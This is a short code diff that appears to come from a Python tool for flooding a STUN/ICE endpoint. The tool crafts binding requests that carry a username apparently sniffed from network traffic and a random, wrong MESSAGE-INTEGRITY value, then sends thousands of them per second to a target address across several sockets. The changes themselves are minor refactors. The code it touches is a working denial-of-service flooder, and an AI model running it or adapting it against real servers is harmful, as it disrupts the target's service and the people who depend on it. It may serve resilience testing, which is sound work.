@@ -11,10 +11,11 @@ COOKIE = 0x2112A442
 
 
 def binding_request(random_source, username):
-    """A well-formed check with a wrong MESSAGE-INTEGRITY, by someone who has read the user name off the wire."""
+    """A well-formed check with a wrong MESSAGE-INTEGRITY, by someone who read the user name off the wire."""
     name = username.encode()
     body = struct.pack(">HH", 0x0006, len(name)) + name + bytes(-len(name) % 4)
-    body += struct.pack(">HHI", 0x0024, 4, 1) + struct.pack(">HH", 0x0008, 20) + random_source.randbytes(20)
+    body += struct.pack(">HHI", 0x0024, 4, 1)
+    body += struct.pack(">HH", 0x0008, 20) + random_source.randbytes(20)
     return struct.pack(">HHI", 1, len(body), COOKIE) + random_source.randbytes(12) + body
 
 
@@ -41,7 +42,8 @@ def flood(address, port, seconds, username, every_second, rate=2000, sockets=8, 
         for second in range(seconds):
             for tick in range(20):
                 for _ in range(rate // 20):
-                    senders[random_source.randrange(sockets)].sendto(datagram(random_source, username), (address, port))
+                    sender = random_source.choice(senders)
+                    sender.sendto(datagram(random_source, username), (address, port))
                     sent += 1
                 time.sleep(max(0, start + second + (tick + 1) / 20 - time.monotonic()))
             every_second()
